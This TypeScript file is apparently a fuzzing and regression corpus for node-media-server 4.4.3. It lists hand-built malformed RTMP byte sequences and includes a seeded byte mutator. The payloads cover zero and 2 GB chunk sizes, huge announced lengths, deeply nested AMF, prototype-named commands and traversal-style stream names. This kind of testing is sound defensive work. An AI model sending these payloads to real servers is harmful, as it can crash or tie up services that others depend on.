/**
 * What ended node-media-server 4.4.3 or misused it, as it comes from its default code paths, each named after what is wrong with it. All of
 * it is made by hand. Whole connections: the bytes from C0 on.
 */
import { AAC_HEADER, amf0, command, HELLO, MESSAGE, message, picture, type Amf } from './rtmp-client.ts';

const C2 = Buffer.alloc(1536, 9);
const CONNECT = command('connect', 1, { app: 'live', tcUrl: 'rtmp://127.0.0.1/live' });
const CREATE = command('createStream', 2, null);
const publish = (name: string): Buffer => command('publish', 3, null, name, 'live');

const greeted = (...bytes: readonly Buffer[]): Buffer => Buffer.concat([HELLO, C2, ...bytes]);
const connected = (...bytes: readonly Buffer[]): Buffer => greeted(CONNECT, CREATE, ...bytes);
const publishing = (...bytes: readonly Buffer[]): Buffer => connected(publish('attack'), ...bytes);

const control = (type: number, payload: Buffer): Buffer => message(type, payload, 0, 0);
const number = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** A type 0 header that announces `length` bytes, and no more than `body` of them. */
const announced = (chunkStream: number, type: number, length: number, body = Buffer.alloc(0)): Buffer => {
  const header = Buffer.alloc(12);
  header[0] = chunkStream;
  header.writeUIntBE(length, 4, 3);
  header[7] = type;
  header[8] = 1;
  return Buffer.concat([header, body]);
};

const deep = (levels: number): Buffer => {
  const open = Buffer.concat(Array.from({ length: levels }, () => Buffer.from([0x03, 0, 1, 0x61])));
  return open;
};

const raw = (name: string, ...rest: readonly Amf[]): Buffer => message(MESSAGE.command, amf0(name, 3, ...rest), 0, 1);

export const ATTACKS: Readonly<Record<string, Buffer>> = {
  'a chunk size without its bytes': greeted(control(1, Buffer.alloc(0))),
  'connect without tcUrl': greeted(command('connect', 1, { app: 'live' })),
  'connect with a tcUrl that is no address': greeted(command('connect', 1, { app: 'live', tcUrl: '::no address::' })),
  'publish without a name': connected(raw('publish', null)),
  'play without a name': connected(raw('play', null)),
  'an AMF type that does not exist': connected(raw('publish', Buffer.from([0x7f]))),
  'an AMF string cut short': connected(
    message(MESSAGE.command, Buffer.concat([amf0('publish', 3, null), Buffer.from([2, 0xff, 0xff, 0x61])])),
  ),
  'a command called constructor': connected(raw('constructor', null), raw('__proto__', null), raw('toString', null)),
  'AMF nested very deep': connected(message(MESSAGE.command, Buffer.concat([amf0('publish', 3), deep(12_000)]))),
  'a picture of no bytes': publishing(message(MESSAGE.video, Buffer.alloc(0))),
  'a sound of no bytes': publishing(message(MESSAGE.audio, Buffer.alloc(0))),
  'a length that grows inside a message': publishing(
    announced(6, MESSAGE.video, 300, Buffer.alloc(128)),
    announced(6, MESSAGE.video, 3000, Buffer.alloc(128)),
    Buffer.alloc(3000),
  ),
  'two signs in the query': connected(publish('attack?sign=a&sign=b'), message(MESSAGE.video, picture(true, 50))),
  'times beyond 32 bits': publishing(
    message(MESSAGE.video, picture(true, 50), 0xff_ff_ff_f0),
    message(MESSAGE.video, picture(false, 50), 0x10),
    message(MESSAGE.audio, AAC_HEADER, 0xff_ff_ff_ff),
  ),
  'a chunk size of 0': greeted(control(1, number(0)), CONNECT),
  'a chunk size of 2 GB': greeted(control(1, number(0x7f_ff_ff_ff)), CONNECT),
  'sixteen megabytes announced on every chunk stream': publishing(
    ...Array.from({ length: 60 }, (_, i) => announced(3 + i, MESSAGE.video, 0xff_ff_ff, Buffer.alloc(128))),
  ),
  'eight megabytes announced on ten chunk streams': publishing(
    ...Array.from({ length: 10 }, (_, i) => announced(10 + i, MESSAGE.video, 8_000_000, Buffer.alloc(128))),
  ),
  'a command of a megabyte': connected(announced(3, MESSAGE.command, 1_000_000, Buffer.alloc(128))),
  'the three byte chunk stream id': connected(Buffer.concat([Buffer.from([0x01, 0xff, 0xff]), Buffer.alloc(11)])),
  'a continuation of nothing': connected(Buffer.from([0xc9, 1, 2, 3])),
  'media before publishing': connected(message(MESSAGE.video, picture(true, 50))),
  'publish before connect': greeted(publish('attack')),
  'a name that leads elsewhere': connected(publish('../attack'), publish('a/b'), publish('x'.repeat(65))),
  'an HTTP request': Buffer.from('POST /live/test HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 4000\r\n\r\n'),
  'an HTTP request with RTMP in it': Buffer.concat([
    Buffer.from('POST / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'),
    publishing(message(MESSAGE.video, picture(true, 50))),
  ]),
  'a greeting of TLS': Buffer.from('1603010200010001fc0303', 'hex'),
  'data that is no AMF': publishing(message(MESSAGE.data, Buffer.from([0xff, 0xff, 0xff]))),
  'an abort without its bytes': connected(control(2, Buffer.alloc(1))),
  'a stream of stray bytes': Buffer.concat([HELLO, C2, Buffer.alloc(5000, 0xa5)]),
};

/** Deterministic, so that what a fuzzer found can be found again (mulberry32, public domain). */
export function randomFrom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** The bytes with some of them changed, doubled, left out or cut off. */
export function mutated(bytes: Buffer, random: () => number): Buffer {
  const out = Buffer.from(bytes);
  const at = (): number => Math.floor(random() * out.length);
  for (let changes = 1 + Math.floor(random() * 6); changes > 0 && out.length > 0; changes--) {
    const kind = random();
    if (kind < 0.5) out[at()] = Math.floor(random() * 256);
    else if (kind < 0.7) out[at()] = [0, 0xff, 0x7f, 0x80][Math.floor(random() * 4)] ?? 0;
    else if (kind < 0.8) return out.subarray(0, at());
    else if (kind < 0.9) return Buffer.concat([out.subarray(0, at()), out.subarray(at())]);
    else out.copy(out, at(), at(), at() + 16);
  }
  return out;
}
